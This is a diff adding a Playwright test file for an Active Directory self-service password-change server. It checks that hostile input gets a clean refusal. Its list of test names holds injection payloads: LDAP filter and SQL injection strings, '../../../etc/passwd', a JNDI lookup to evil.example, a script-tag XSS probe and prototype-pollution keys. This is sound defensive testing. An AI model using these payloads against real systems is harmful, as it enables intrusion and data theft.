@@ -1,0 +1,292 @@
+/*
+ * Bad input: whatever is sent, a clear refusal comes back, nothing is lost, and the server goes on.
+ *
+ *   names that attack or puzzle a directory → answers that are wrong, late, replayed, parallel, cut off → bodies that are none →
+ *   tokens that are forged or over → a directory that says nothing, or nonsense
+ */
+import { mkdtemp, rm, writeFile } from 'node:fs/promises'
+import { connect } from 'node:net'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { DatabaseSync } from 'node:sqlite'
+import { expect, test } from 'playwright/test'
+import { startFakeController } from '../server/directory/active-directory/testing/fake-controller.ts'
+import { fakeDomain } from '../server/directory/active-directory/testing/fake-domain.ts'
+import type { WizardStep } from '../shared/wizard/page.ts'
+import { type Api, createApi, type Started } from './environment/api.ts'
+import { numberOf, untilNothingIsLeft } from './environment/look-alikes.ts'
+import { type Samba, startSamba } from './environment/samba.ts'
+import { type RunningServer, startServer } from './environment/server.ts'
+
+const proxies = { LATCHKEY_TRUSTED_PROXIES: '127.0.0.1,::1' }
+const apiOf = ({ url }: RunningServer) => createApi({ url, trusted: true })
+
+test.describe('on the sample company', () => {
+  let server: RunningServer
+  let api: Api
+
+  test.beforeAll(async () => {
+    server = await startServer({ env: proxies })
+    api = apiOf(server)
+  })
+  test.afterAll(() => server.stop())
+  // Whatever nobody thought of would be logged as such.
+  test.afterEach(() => expect(server.log()).not.toMatch(/Error:/))
+
+  const change = (account: string) => api.start({ workflow: 'manage-my-passwords', account })
+  const answerCall = ({ run }: Started, body: unknown, token = run.token) =>
+    api.call('POST', `/api/v1/runs/${run.id}/answers`, { body, token })
+  const codeOf = async (reply: Promise<Response>) => ((await (await reply).json()) as { code: string }).code
+
+  test('names that mean something elsewhere are nobody', async () => {
+    const nobody = await untilNothingIsLeft(api, 'nobody.here')
+    for (const account of hostileNames.slice(0, 4))
+      expect(await untilNothingIsLeft(api, account), account).toEqual(nobody)
+    for (const account of [...hostileNames.slice(4), 'ambiguous.user', 'x'.repeat(256)]) {
+      const { run, step } = await change(account)
+      const again = await api.answer(run, numberOf(step), { password: 'Harbour-Lantern-41' })
+      expect(again, account).toMatchObject({ status: 'ask', page: { problem: { code: 'wrong-credentials' } } })
+    }
+  })
+
+  test('names that nobody can type are refused', async () => {
+    for (const account of [
+      '',
+      '   ',
+      'a\u0000b',
+      'a\nb',
+      '\u001b[31m',
+      'x'.repeat(257),
+      7,
+      null,
+      ['active.user'],
+      { $ne: '' },
+    ]) {
+      const body = { workflow: 'manage-my-passwords', account }
+      const reply = await api.call('POST', '/api/v1/runs', { body })
+      expect(reply.status, JSON.stringify(account)).toBe(400)
+      expect(await reply.json()).toMatchObject({
+        code: 'invalid-request',
+        title: expect.stringContaining('Nothing was changed'),
+      })
+    }
+  })
+
+  test('a late or repeated answer executes nothing and is told what stands', async () => {
+    const { run, step } = await change('expired.user')
+    const [password, newPassword] = ['Copper-Meadow-52', 'Bramble-Harvest-77']
+    const first = numberOf(step)
+    const page = await api.answer(run, first, { password })
+    expect(page).toMatchObject({ status: 'ask', activity: 'change-password-in-ad' })
+    for (const number of [first, first - 1, 0])
+      expect(await api.answer(run, number, { password: 'wrong' })).toEqual(page)
+    expect(await api.answer(run, 999_999, { password, newPassword })).toEqual(page)
+    const many = Array.from({ length: 10 }, () => api.answer(run, numberOf(page), { password, newPassword }))
+    const statuses = (await Promise.all(many)).map(({ status }) => status)
+    expect(statuses.filter((status) => !['wait', 'done'].includes(status))).toEqual([])
+    expect(statuses).toContain('done')
+    expect(await api.answer(run, numberOf(page), { password, newPassword })).toMatchObject({ status: 'done' })
+    expect(changesInAudit(server, run.id)).toBe(1)
+  })
+
+  test('an answer that is cut off was never given', async () => {
+    const started = await change('active.user')
+    const body = JSON.stringify({ number: numberOf(started.step), answer: { password: 'Harbour-Lantern-41' } })
+    for (const sent of [body.slice(0, 20), body.slice(0, -1), '']) await cutOff(server, started.run, body.length, sent)
+    expect(await codeOf(answerCall(started, body.slice(0, -1)))).toBe('invalid-request')
+    expect(await api.standing(started.run)).toEqual(started.step)
+  })
+
+  test('bodies of the wrong kind are refused, and the run stands where it stood', async () => {
+    const started = await change('active.user')
+    const number = numberOf(started.step)
+    const answers: unknown[] = [null, 7, 'text', [], { password: 7 }, { password: null }, { password: ['a'] }]
+    for (const answer of answers)
+      expect(await codeOf(answerCall(started, { number, answer })), JSON.stringify(answer)).toBe('invalid-request')
+    for (const wrong of ['1', 1.5, -1, null, [number]])
+      expect(await codeOf(answerCall(started, { number: wrong, answer: {} }))).toBe('invalid-request')
+    expect(
+      await codeOf(answerCall(started, `{"number":${number},"answer":${'['.repeat(30_000)}${']'.repeat(30_000)}}`)),
+    ).toBe('invalid-request')
+    expect(await codeOf(answerCall(started, { number, answer: { password: 'x'.repeat(2_000_000) } }))).toBe(
+      'request-too-large',
+    )
+    expect(await api.standing(started.run)).toEqual(started.step)
+    const empty = await api.answer(started.run, number, {})
+    expect(empty).toMatchObject({ status: 'ask', page: { problem: { field: 'password' } } })
+    const inherited = `{"number":${numberOf(empty)},"answer":{"__proto__":{"password":"Harbour-Lantern-41"},"constructor":{}}}`
+    const still = (await (await answerCall(started, inherited)).json()) as WizardStep
+    expect(still).toMatchObject({ status: 'ask', page: { problem: { field: 'password' } } })
+    const tooLong = await api.answer(started.run, numberOf(still), { password: 'x'.repeat(20_000) })
+    expect(tooLong).toMatchObject({ status: 'ask', page: { problem: { field: 'password' } } })
+  })
+
+  test('a token opens only its own run, and none that is forged or over', async () => {
+    const [mine, other] = [await change('active.user'), await change('active.user')]
+    const number = numberOf(mine.step)
+    const wrong = [other.run.token, 'A'.repeat(43), `${mine.run.token.slice(0, -1)}!`, mine.run.token.toUpperCase(), '']
+    for (const token of wrong) {
+      const reply = await answerCall(mine, { number, answer: { password: 'wrong' } }, token)
+      expect([401, 404], token).toContain(reply.status)
+    }
+    for (const id of [
+      '00000000-0000-7000-8000-000000000000',
+      "' OR 1=1 --",
+      '..',
+      '%00',
+      '%E0%A4%A',
+      'x'.repeat(5000),
+    ]) {
+      const reply = await api.call('GET', `/api/v1/runs/${id}`, { token: mine.run.token })
+      expect([401, 404], id).toContain(reply.status)
+    }
+    expect(await api.standing(mine.run)).toEqual(mine.step)
+
+    const page = await api.answer(mine.run, number, { password: 'Harbour-Lantern-41' })
+    const newPassword = 'Bramble-Harvest-78'
+    const done = await api.answer(mine.run, numberOf(page), { password: 'Harbour-Lantern-41', newPassword })
+    const stateToken = done.status === 'done' ? done.result?.stateToken : undefined
+    const state = (method: string, token = stateToken) => api.call(method, '/api/v1/state', { token })
+    expect((await state('GET')).status).toBe(200)
+    expect((await state('GET', mine.run.token)).status).toBe(401)
+    expect((await state('GET', `${stateToken?.slice(0, -1)}_`)).status).toBe(401)
+    // A state token reads, and moves nothing.
+    expect((await answerCall(mine, { number, answer: {} }, stateToken)).status).toBe(404)
+    inDatabase(server, "UPDATE StateToken SET expiresAt = '2020-01-01T00:00:00.000Z'")
+    expect((await state('GET')).status).toBe(401)
+
+    inDatabase(server, "UPDATE Run SET updatedAt = '2020-01-01T00:00:00.000Z', createdAt = '2020-01-01T00:00:00.000Z'")
+    await server.restart()
+    await expect.poll(async () => api.standing(other.run)).toMatchObject({ status: 'stopped', code: 'expired' })
+  })
+})
+
+test.describe('on Active Directory', () => {
+  let folder: string
+  let samba: Samba
+  test.beforeAll(async () => {
+    folder = await mkdtemp(join(tmpdir(), 'lk-bad-'))
+    samba = await startSamba({ folder, address: '127.0.0.16', lockoutThreshold: 0 })
+    await samba.addPerson({ account: 'only.one', password: 'Before-Passw0rd!1' })
+  })
+  test.afterAll(async () => {
+    await samba.stop()
+    await rm(folder, { recursive: true, force: true })
+  })
+
+  test('no name reaches a filter as anything but a name', async () => {
+    const server = await startServer({ env: { ...proxies, ...samba.environment } })
+    try {
+      const api = apiOf(server)
+      const trying = async (account: string) => {
+        const { run, step } = await api.start({ workflow: 'manage-my-passwords', account })
+        return api.answer(run, numberOf(step), { password: 'Before-Passw0rd!1' })
+      }
+      expect(await trying('only.one')).toMatchObject({ activity: 'change-password-in-ad' })
+      for (const account of [...hostileNames, 'only.*', 'only.one)(objectClass=*', 'only.one\\2a'])
+        expect(await trying(account), account).toMatchObject({ page: { problem: { code: 'wrong-credentials' } } })
+      expect(server.log()).not.toMatch(/Error:/)
+    } finally {
+      await server.stop()
+    }
+  })
+})
+
+test('a directory that says nothing, nonsense, or hangs up is told as one, and found again', async () => {
+  const fake = await startFakeController(fakeDomain())
+  const folder = await mkdtemp(join(tmpdir(), 'lk-fake-'))
+  await writeFile(join(folder, 'ca.pem'), fake.ca)
+  const directory = {
+    LATCHKEY_DIRECTORY: fake.url,
+    LATCHKEY_DIRECTORY_BASE: 'DC=corp,DC=example,DC=com',
+    LATCHKEY_DIRECTORY_BIND_DN: 'CN=svc,DC=corp,DC=example,DC=com',
+    LATCHKEY_DIRECTORY_BIND_PASSWORD: 'Service-Passw0rd-1',
+    LATCHKEY_DIRECTORY_CA_FILE: join(folder, 'ca.pem'),
+  }
+  const server = await startServer({ env: { ...proxies, ...directory } })
+  try {
+    const api = apiOf(server)
+    const order = { workflow: 'manage-my-passwords', account: 'ada' }
+    const kept = await api.start(order)
+    for (const misbehaviour of ['garbage', 'drop', 'silence'] as const) {
+      fake.search = () => misbehaviour
+      const begun = performance.now()
+      const reply = await api.call('POST', '/api/v1/runs', { body: order })
+      expect(performance.now() - begun, misbehaviour).toBeLessThan(15_000)
+      expect(await reply.json(), misbehaviour).toMatchObject({
+        status: 503,
+        code: 'directory-unreachable',
+        title: expect.stringMatching(/does not answer/),
+      })
+      fake.search = () => undefined
+      await expect
+        .poll(async () => (await api.call('POST', '/api/v1/runs', { body: order })).status, { timeout: 30_000 })
+        .toBe(201)
+    }
+    expect(await api.standing(kept.run)).toEqual(kept.step)
+    fake.bind = (name) => (name.startsWith('CN=Ada') ? 'garbage' : { code: 0, text: '' })
+    const stopped = await api.answer(kept.run, numberOf(kept.step), { password: 'whatever' })
+    expect(stopped).toMatchObject({ status: 'stopped', code: 'directory-unreachable' })
+  } finally {
+    await server.stop()
+    await fake.close()
+    await rm(folder, { recursive: true, force: true })
+  }
+})
+
+const hostileNames = [
+  '*)(uid=*',
+  "' OR '1'='1",
+  'active.user\u200b',
+  '\u202eresu.evitca',
+  '*',
+  '(',
+  '\\',
+  'CORP\\',
+  '@corp.example.com',
+  'CORP\\CORP\\active.user',
+  'active.user@evil@corp.example.com',
+  'CN=Active User,OU=People,DC=corp,DC=example,DC=com',
+  '<SID=S-1-5-21-1-2-3-500>',
+  '../../../etc/passwd',
+  '%24{jndi:ldap://evil.example/a}',
+  '<script>alert(1)</script>',
+  '__proto__',
+  '\ud800',
+  '💣'.repeat(100),
+  'krbtgt',
+]
+
+/** A connection that ends in the middle of its body. */
+function cutOff(server: RunningServer, run: Started['run'], length: number, sent: string): Promise<void> {
+  const { host, hostname, port } = new URL(server.url)
+  const head = [
+    `POST /api/v1/runs/${run.id}/answers HTTP/1.1`,
+    ...[
+      `host: ${host}`,
+      `authorization: Bearer ${run.token}`,
+      'content-type: application/json',
+      `content-length: ${length}`,
+    ],
+  ]
+  return new Promise((resolve, reject) => {
+    const socket = connect(Number(port), hostname === 'localhost' ? '127.0.0.1' : hostname)
+    socket.on('error', reject).on('close', () => resolve())
+    socket.write(`${head.join('\r\n')}\r\n\r\n${sent}`, () => socket.destroy())
+  })
+}
+
+function inDatabase(server: RunningServer, sql: string): void {
+  const database = new DatabaseSync(join(server.folder, 'data/latchkey.sqlite'), { timeout: 10_000 })
+  database.exec(sql)
+  database.close()
+}
+
+function changesInAudit(server: RunningServer, run: string): number {
+  const database = new DatabaseSync(join(server.folder, 'data/latchkey.sqlite'), { readOnly: true })
+  const changes = database
+    .prepare("SELECT event FROM AuditEvent WHERE runId = ? AND event = 'password-changed'")
+    .all(run)
+  database.close()
+  return changes.length
+}
